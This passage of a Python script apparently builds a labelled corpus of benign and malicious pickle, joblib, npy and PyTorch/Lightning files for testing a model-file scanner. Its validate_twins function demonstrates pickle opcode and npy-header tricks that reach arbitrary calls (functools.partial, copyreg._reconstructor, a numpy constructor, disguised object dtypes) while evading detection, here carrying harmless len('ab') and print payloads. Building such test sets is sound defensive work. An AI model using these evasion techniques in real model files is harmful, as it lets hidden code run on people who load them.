        "scalar0d": np.array(3.5),
        "empty": np.zeros((0, 3)),
        "obj_struct": np.array([(1, "x")], dtype=[("a", "<i4"), ("b", "O")]),
        "view": np.arange(8, dtype=np.int32).view(np.float32),
    }
    for comp, ext in ((0, "joblib"), (3, "z.joblib")):
        b = io.BytesIO()
        joblib.dump(arrays, b, compress=comp)
        w(f"joblib_exotic_dtypes.{ext}", b.getvalue(), "benign-numpy",
          f"joblib.dump of arrays with datetime64/bool/complex/float16/longdouble/U/S/big-endian/structured/subarray/object-field dtypes, compress={comp}")
    for name in ("rec", "obj_struct", "dt", "u5"):
        b = io.BytesIO()
        joblib.dump(arrays[name], b)
        w(f"joblib_single_{name}.joblib", b.getvalue(), "benign-numpy", f"joblib.dump of one {arrays[name].dtype} array")
    # npy with field names starting with 'O'
    b = io.BytesIO()
    np.save(b, np.zeros(2, dtype=[("Output", "<f4"), ("OK", "u1")]))
    w("npy_fields_named_O.npy", b.getvalue(), "benign-numpy",
      "structured .npy whose field names start with 'O' (Output, OK); no object dtype")
    b = io.BytesIO()
    np.save(b, np.zeros(2, dtype=[("O", "<f4")]))
    w("npy_field_named_O_only.npy", b.getvalue(), "benign-numpy", "structured .npy with a field literally named 'O'")
    b = io.BytesIO()
    np.savez(b, **{"Obj": np.arange(3), "O": np.zeros(2, dtype=[("O", "i1")])})
    w("npz_fields_named_O.npz", b.getvalue(), "benign-numpy", "np.savez with members/fields named O/Obj")
    # pickled numpy objects of many kinds
    misc = {"dt64": np.datetime64("2024-01-01"), "ma": np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]),
            "rs": np.random.RandomState(0), "gen": np.random.default_rng(0),
            "c": np.complex128(1 + 1j), "u": np.str_("x"), "void": np.zeros(1, dtype="V4")[0],
            "mat": np.matrix([[1, 2]]), "bool_": np.bool_(False), "fin": np.finfo(np.float32).eps,
            "sdt": np.dtype([("a", "<i4"), ("b", "O")])}
    for proto in (2, 5):
        w(f"numpy_misc_objects_p{proto}.pkl", pickle.dumps(misc, protocol=proto), "benign-numpy",
          f"numpy datetime64, masked array, RandomState, Generator, complex, str_, void, matrix, dtype with O field, protocol {proto}")

    # ---- Python stdlib data a model config carries ---------------------------------------------
    Point = namedtuple("Point", "x y")
    Point.__module__ = "__main__"
    sys.modules["__main__"].Point = Point

    class Cfg(OrderedDict):
        pass
    Cfg.__module__ = "__main__"
    Cfg.__qualname__ = "Cfg"
    sys.modules["__main__"].Cfg = Cfg
    cfg = Cfg(a=1)
    data = {"when": datetime.datetime(2024, 5, 1, 12, 0, tzinfo=datetime.timezone.utc),
            "delta": datetime.timedelta(days=2), "d": datetime.date(2024, 1, 1),
            "pt": Point(1, 2), "cfg": cfg, "fs": frozenset({1, 2}), "dq": collections.deque([1, 2]),
            "inf": float("inf"), "nan": float("nan"), "neg0": -0.0, "big": 2 ** 80, "neg": -(2 ** 70),
            "tiny": 5e-324, "bytes": b"\x00\xff", "surrogate_path": os.fsdecode(b"/data/\xff\xfe.bin")}
    for proto in (0, 1, 2, 4):
        s = pickle.dumps(data, protocol=proto)
        pickle.loads(s)
        w(f"stdlib_mixed_p{proto}.pkl", s, "benign-collections",
          f"datetime/tz, namedtuple, OrderedDict subclass, deque, inf/nan/-0.0, big ints, and a surrogateescape'd path string, protocol {proto}")
    s = pickle.dumps({"path": os.fsdecode(b"weights_\xe9.bin"), "n": 1}, protocol=4)
    pickle.loads(s)
    w("surrogate_string_p4.pkl", s, "benign-collections",
      "dict holding a filename decoded with surrogateescape (lone surrogate in SHORT_BINUNICODE)")
    # protocol 0 numbers written the way old picklers did
    s = b"(dp0\nVa\np1\nI01\nsVb\np2\nL12L\nsVc\np3\nF1e-05\nsVd\np4\nI-3\nsVe\np5\nFinf\ns."
    pickle.loads(s)
    w("p0_text_numbers.pkl", s, "benign-collections", "protocol 0 with I01, L12L, F1e-05, Finf, negative INT")

    # ---- torch-shaped via fake modules -----------------------------------------------------
    gen_benign_torch(w)


def gen_benign_torch(w):
    install_fake_modules()

    def _reg(modname, cname, base=object, attrs=None):
        cls = type(cname, (base,), dict(attrs or {}))
        return _put(modname, cls, cname)

    # torch.Size / dtype / device / layout / memory_format singletons
    def mk_func(modname, fname):
        def f(*a):
            raise RuntimeError("fake")
        f.__name__ = fname
        return _put(modname, f, fname)

    class Size(tuple):
        def __reduce__(self):
            return (SizeCls, (tuple(self),))
    SizeCls = _put("torch", Size, "Size")

    class DType:
        def __init__(self, n):
            self.n = n

        def __reduce__(self):
            return self.n  # global name lookup: torch.float32
    f32 = DType("float32")
    _put("torch", DType, "dtype")
    setattr(G._mod("torch"), "float32", f32)
    setattr(G._mod("torch"), "qint8", DType("qint8"))
    setattr(G._mod("torch"), "float16", DType("float16"))
    setattr(G._mod("torch"), "sparse_coo", DType("sparse_coo"))
    setattr(G._mod("torch"), "contiguous_format", DType("contiguous_format"))
    qint8 = getattr(G._mod("torch"), "qint8")
    coo = getattr(G._mod("torch"), "sparse_coo")
    cf = getattr(G._mod("torch"), "contiguous_format")

    rebuild_q = mk_func("torch._utils", "_rebuild_qtensor")
    rebuild_sparse = mk_func("torch._utils", "_rebuild_sparse_tensor")
    rebuild_from_type_v2 = mk_func("torch._tensor", "_rebuild_from_type_v2")
    rebuild_wrapper = mk_func("torch._utils", "_rebuild_wrapper_subclass")
    get_layout = mk_func("torch.serialization", "_get_layout")

    Tensor = _reg("torch", "Tensor")
    Parametrized = _reg("torch.nn.utils.parametrize", "ParametrizationList")
    ParamLinear = _reg("torch.nn.utils.parametrize", "ParametrizedLinear", base=T.Linear.__mro__[1])
    BatchNorm = _reg("torch.nn.modules.batchnorm", "BatchNorm1d")
    Conv = _reg("torch.nn.modules.conv", "Conv2d")
    Dropout = _reg("torch.nn.modules.dropout", "Dropout")
    Embedding = _reg("torch.nn.modules.sparse", "Embedding")
    Adam = _reg("torch.optim.adam", "Adam")
    LambdaLR = _reg("torch.optim.lr_scheduler", "StepLR")
    ModelCheckpoint = _reg("lightning.pytorch.callbacks.model_checkpoint", "ModelCheckpoint")
    EarlyStopping = _reg("lightning.pytorch.callbacks.early_stopping", "EarlyStopping")
    AttributeDictL = _put("lightning.fabric.utilities.data", type("AttributeDict", (dict,), {}), "AttributeDict")
    Namespace = __import__("argparse").Namespace

    class QT:
        def __init__(self, st):
            self.st = st

        def __reduce_ex__(self, p):
            return (rebuild_q, (self.st, 0, SizeCls((4,)), (1,), (qint8, 0.1, 0), False, OrderedDict()))

    class SP:
        def __init__(self, idx, val):
            self.idx, self.val = idx, val

        def __reduce_ex__(self, p):
            return (rebuild_sparse, (coo, (self.idx, self.val, SizeCls((3, 3)), True)))

    class Sub:
        def __init__(self, t):
            self.t = t

        def __reduce_ex__(self, p):
            return (rebuild_from_type_v2, (T.rebuild_tensor_v2, Tensor, (self.t.storage, 0, (2,), (1,), False, OrderedDict()), {"tag": 1}))

    st_q = FakeStorage("0", getattr(G._mod("torch"), "ByteStorage"), b"\x01\x02\x03\x04", 1)
    st_i = FakeStorage("1", getattr(G._mod("torch"), "LongStorage"), struct.pack("<4q", 0, 1, 1, 2), 8)
    st_v = FakeStorage("2", T.FloatStorage, floats(1.0, 2.0), 4)
    st_w = FakeStorage("3", T.FloatStorage, floats(*([0.5] * 6)), 4)
    pm = T.Linear.__new__(T.Linear)
    pm.__dict__.update({"training": True, "_parameters": OrderedDict(original=FakeParameter(FakeTensor(st_w, (2, 3)))),
                        "_buffers": OrderedDict(), "_modules": OrderedDict(), "in_features": 3, "out_features": 2})
    plist = Parametrized.__new__(Parametrized)
    plist.__dict__.update({"_modules": OrderedDict(), "original": FakeParameter(FakeTensor(st_w, (2, 3))),
                           "unsafe": False, "is_tensor": True, "ntensors": 1})
    pm.__dict__["parametrizations"] = {"weight": plist}
    obj = OrderedDict()
    obj["q"] = QT(st_q)
    obj["sparse"] = SP(FakeTensor(st_i, (2, 2)), FakeTensor(st_v, (2,)))
    obj["sub"] = Sub(FakeTensor(st_v, (2,)))
    obj["size"] = SizeCls((3, 4))
    obj["dtype"] = f32
    obj["fmt"] = cf
    obj["device"] = T.device("cpu")
    obj["param_module"] = pm
    obj["ns"] = Namespace(lr=0.1, layers=[1, 2], name="net")
    pkl, seen = torch_pickle(obj)
    w("torch_mixed_tensors.pt", torch_zip("archive", pkl, storage_map(seen)), "benign-torch",
      "torch zip: quantized (_rebuild_qtensor + torch.qint8), sparse (_rebuild_sparse_tensor + torch.sparse_coo), "
      "_rebuild_from_type_v2(_rebuild_tensor_v2, torch.Tensor, ...), torch.Size, dtypes, memory_format, device, parametrizations, Namespace")

    # Lightning checkpoint with callbacks / loops / hparams
    hp = AttributeDictL()
    hp.update({"lr": 1e-3, "batch_size": 32, "optimizer": "adam", "betas": (0.9, 0.999)})
    ckpt = {
        "epoch": 3, "global_step": 120, "pytorch-lightning_version": "2.2.0",
        "state_dict": tiny_state_dict(),
        "loops": {"fit_loop": {"state_dict": {}, "epoch_loop.state_dict": {"_batches_that_stepped": 120},
                               "epoch_progress": {"total": {"ready": 4, "completed": 3}}}},
        "callbacks": {"ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min'}":
                      {"monitor": "val_loss", "best_model_score": None, "best_model_path": "/ckpt/best.ckpt",
                       "dirpath": "/ckpt", "kth_best_model_path": "", "best_k_models": {}},
                      "EarlyStopping{'monitor': 'val_loss', 'mode': 'min'}":
                      {"wait_count": 0, "stopped_epoch": 0, "best_score": None, "patience": 3}},
        "optimizer_states": [{"state": {}, "param_groups": [{"lr": 1e-3, "betas": (0.9, 0.999), "params": [0, 1]}]}],
        "lr_schedulers": [{"step_size": 10, "gamma": 0.1, "base_lrs": [1e-3], "last_epoch": 3}],
        "hparams_name": "kwargs", "hyper_parameters": hp,
        "datamodule_hyper_parameters": Namespace(data_dir="/data", num_workers=4),
    }
    pkl, seen = torch_pickle(ckpt)
    w("lightning_full_checkpoint.ckpt", torch_zip("archive", pkl, storage_map(seen)), "benign-lightning",
      "Lightning 2.x checkpoint: loops, callbacks state, optimizer/scheduler state, lightning.fabric AttributeDict, Namespace")


def gen_benign_round2(o: Out):
    B = "benign/"

    def w(name, data, cls, desc):
        assert len(data) < 64 * 1024, name
        o.write(B + name, data, "benign", cls, desc)

    import numpy as np
    import joblib
    import scipy.signal
    arrays = {
        "dt": np.array(["2024-01-01T00:00"], dtype="datetime64[ns]"), "b": np.array([True, False]),
        "c64": np.array([1 + 2j], dtype=np.complex64), "f16": np.array([1.5], dtype=np.float16),
        "ld": np.zeros(1, dtype=np.longdouble), "u5": np.array(["ab", "cdefg"]),
        "be": np.array([1.0, 2.0], dtype=">f8"), "rec": np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8"), ("z", "S2")]),
        "recal": np.zeros(2, dtype=np.dtype([("x", "u1"), ("y", "<f8")], align=True)),
        "sub": np.zeros(2, dtype=[("v", "<f4", (3,))]), "fort": np.asfortranarray(np.ones((2, 3), np.float32)),
        "scalar0d": np.array(3.5), "empty": np.zeros((0, 3)),
    }
    b = io.BytesIO()
    joblib.dump(arrays, b)
    w("joblib_exotic_dtypes_no_object.joblib", b.getvalue(), "benign-numpy",
      "joblib.dump of datetime64/bool/complex/float16/longdouble/U/big-endian/structured/aligned/subarray/F-order/0-d/empty arrays (no object fields)")
    data = {"when": datetime.datetime(2024, 5, 1, 12, 0, tzinfo=datetime.timezone.utc), "inf": float("inf"),
            "nan": float("nan"), "big": 2 ** 80, "fs": frozenset({1}), "dq": collections.deque([1])}
    for proto in (1, 2, 4):
        w(f"stdlib_mixed_no_surrogate_p{proto}.pkl", pickle.dumps(data, protocol=proto), "benign-collections",
          f"datetime/tz, inf/nan, big int, frozenset, deque, protocol {proto}")
    lti = scipy.signal.lti([1.0], [1.0, 2.0, 1.0])
    stft = scipy.signal.ShortTimeFFT(np.hanning(8), hop=4, fs=100.0)
    w("scipy_signal_objects_p4.pkl", pickle.dumps({"sys": lti, "stft": stft}, protocol=4), "benign-numpy",
      "scipy.signal.lti (TransferFunctionContinuous) and ShortTimeFFT objects, protocol 4")
    w("scipy_signal_lti_p2.pkl", pickle.dumps(scipy.signal.dlti([1.0], [1.0, -0.5]), protocol=2), "benign-numpy",
      "scipy.signal.dlti, protocol 2")


def validate_twins():
    """Loads BENIGN twins of the quirk files (payload replaced by builtins.len('ab') == 2) to show the
    loader really reaches the position where the malicious variant has its payload."""
    import numpy as np
    import joblib
    tail0 = b"cbuiltins\nlen\n(S'ab'\ntR."
    for pre in (b"(I1 \nI2\nl0", b"(lp0 \n0", b"L 7 \n0", b"I1_0\t\n0", b"I1\x00junk\n0", b"L1\x00junk\n0",
                b"F1.5\x00junk\n0", b"(lp0\x00zz\n0g0\x00q\n0"):
        assert pickle.loads(pre + tail0) == 2, pre
    lenab = call_g("builtins", "len", "ab")
    assert pickle.loads(PROTO(2) + b"X\x03\x00\x00\x00\xed\xa0\x80" + POP + lenab + STOP) == 2
    assert pickle.loads(PROTO(2) + b"I 5 \n0" + lenab + STOP) == 2
    # partial swapped through BUILD
    assert pickle.loads(p2(GLOBAL("functools", "partial") + GLOBAL("builtins", "str") + TUPLE1 + REDUCE
                           + MARK + GLOBAL("builtins", "len") + lit(("ab",)) + EMPTY_DICT + NONE + TUPLE
                           + BUILD + EMPTY_TUPLE + REDUCE)) == 2
    # copyreg._reconstructor runs base.__init__(obj, state)
    ns = pickle.loads(p2(GLOBAL("copy_reg", "_reconstructor") + GLOBAL("argparse", "Namespace")
                         + GLOBAL("string", "Template") + lit("twin-$x") + TUPLE3 + REDUCE))
    assert ns.template == "twin-$x"
    # numpy random ctor calls its second argument with the first
    try:
        pickle.loads(p2(GLOBAL("numpy.random._pickle", "__randomstate_ctor") + lit("ab")
                        + GLOBAL("builtins", "print") + TUPLE2 + REDUCE))
    except Exception as e:  # print('ab') ran, then RandomState(None-ish) may fail
        pass
    # joblib: dtype('int64') mis-skip and structured object field
    global payload_body
    saved = payload_body
    payload_body = lambda cmd=None: lenab
    try:
        assert joblib.load(io.BytesIO(joblib_misskip("int64"))) == 2
        try:
            joblib.load(io.BytesIO(joblib_struct_object()))
        except AttributeError:
            pass  # nested pickle returned len('ab') instead of an array: it ran
    finally:
        payload_body = saved
    # npy headers
    def npy_raw(t):
        hlen = len(t) + 1
        pad = (-(10 + hlen)) % 64
        d = t + " " * pad + "\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(d)) + d.encode("latin1")
    body = pickle.dumps(["twin"], protocol=2)
    for t in ("{'descr': '\\u004f', 'fortran_order': False, 'shape': (1,), }",
              "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }",
              "{'de' 'scr': '|O', 'fortran_order': False, 'shape': (1,), }",
              "{'descr': [('a', '\\x4f')], 'fortran_order': False, 'shape': (1,), }"):
        assert np.load(io.BytesIO(npy_raw(t) + body), allow_pickle=True) == ["twin"], t
    print("twins ok")


def validate(o: Out):
    """Parse every written pickle-ish file with genops only (never executes)."""
    pass


def main():
    if os.environ.get("PYTHONHASHSEED") != "0":  # set iteration order (sklearn stop-word sets) must not vary
        os.execve(sys.executable, [sys.executable] + sys.argv, dict(os.environ, PYTHONHASHSEED="0"))
    root = HERE
    for sub in ("malicious", "benign"):
        shutil.rmtree(os.path.join(root, sub), ignore_errors=True)
    o = Out(root)
    gen_malicious(o)
    gen_malicious_round2(o)
    gen_malicious_round3(o)
    gen_benign(o)
    gen_benign_round2(o)
    o.manifest()
    print(f"wrote {len(o.rows)} files")
    validate_twins()


if __name__ == "__main__":
    main()
